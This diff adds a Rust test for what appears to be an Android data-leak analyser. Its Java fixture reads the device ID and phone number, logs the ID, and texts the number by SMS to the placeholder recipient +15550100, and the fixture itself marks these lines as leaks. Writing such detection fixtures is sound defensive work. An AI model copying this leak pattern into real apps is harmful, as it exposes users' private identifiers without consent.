@@ -4218,3 +4218,55 @@ public class Main extends Activity {
     }
 }
 "#;
+
+#[test]
+fn a_builder_hands_on_each_field_and_an_inner_class_reads_the_outer_field() {
+    // `new Req(this)` in a builder's `build()`: each field of the request is the
+    // builder's field of that name, not the whole builder; `MainActivity.this.number`
+    // in an inner class is the activity's field.
+    assert_marked(&[("src/main/java/com/example/bld/Main.java", BUILDER_JAVA)]);
+}
+
+const BUILDER_JAVA: &str = r#"package com.example.bld;
+
+import android.app.Activity;
+import android.os.Bundle;
+import android.telephony.SmsManager;
+import android.telephony.TelephonyManager;
+import android.util.Log;
+
+class Req {
+    final String a;
+    final String b;
+    private Req(Builder bl) { a = bl.a; b = bl.b; }
+
+    static class Builder {
+        String a;
+        String b;
+        Builder setA(String v) { a = v; return this; }
+        Builder setB(String v) { b = v; return this; }
+        Req build() { return new Req(this); }
+    }
+}
+
+public class Main extends Activity {
+    private String number;
+
+    class Reporter {
+        void report() {
+            SmsManager.getDefault().sendTextMessage("+15550100", null, Main.this.number, null, null); // leaks
+        }
+    }
+
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        TelephonyManager tm = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
+        Req r = new Req.Builder().setA(tm.getDeviceId()).setB("beta").build();
+        Log.i("r", r.b); // not data
+        Log.i("r", r.a); // leaks
+        number = tm.getLine1Number();
+        new Reporter().report();
+    }
+}
+"#;
